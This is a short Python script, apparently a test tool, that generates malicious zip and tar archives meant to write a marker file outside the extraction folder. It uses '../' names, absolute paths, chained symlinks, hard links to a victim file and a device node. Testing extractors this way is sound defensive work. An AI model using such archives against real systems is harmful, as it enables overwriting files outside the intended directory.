"""evil.py HOW ARCHIVE VICTIM: makes an archive that tries to write outside the folder in which it is unpacked."""

import io
import sys
import tarfile
import zipfile

how, path, victim = sys.argv[1:]
LANDED = b'landed\n'


def member(name, type_=tarfile.REGTYPE, link=''):
    entry = tarfile.TarInfo(name)
    entry.type, entry.linkname = type_, link
    if type_ == tarfile.REGTYPE:
        entry.size = len(LANDED)
    tar.addfile(entry, io.BytesIO(LANDED) if entry.size else None)


if how.startswith('zip'):
    archive = zipfile.ZipFile(path, 'w')
    if how == 'zip-up':
        archive.writestr('../../landed', LANDED)
    else:
        entry = zipfile.ZipInfo('out')
        entry.external_attr = 0o120777 << 16
        archive.writestr(entry, '../..')
        archive.writestr('out/landed', LANDED)
    archive.close()
else:
    tar = tarfile.open(path, 'w')
    if how == 'up':
        member('top/../../landed')
    elif how == 'absolute':
        member(victim)
    elif how == 'link':
        member('out', tarfile.SYMTYPE, '../..')
        member('out/landed')
    elif how == 'linked-twice':
        member('a', tarfile.SYMTYPE, '.')
        member('b', tarfile.SYMTYPE, 'a/../..')
        member('b/landed')
    elif how == 'hard':
        member('top/x', tarfile.LNKTYPE, victim)
        member('top/x')
    elif how == 'over':
        member('x', tarfile.SYMTYPE, victim)
        member('x')
    elif how == 'device':
        member('null', tarfile.CHRTYPE)
    tar.close()
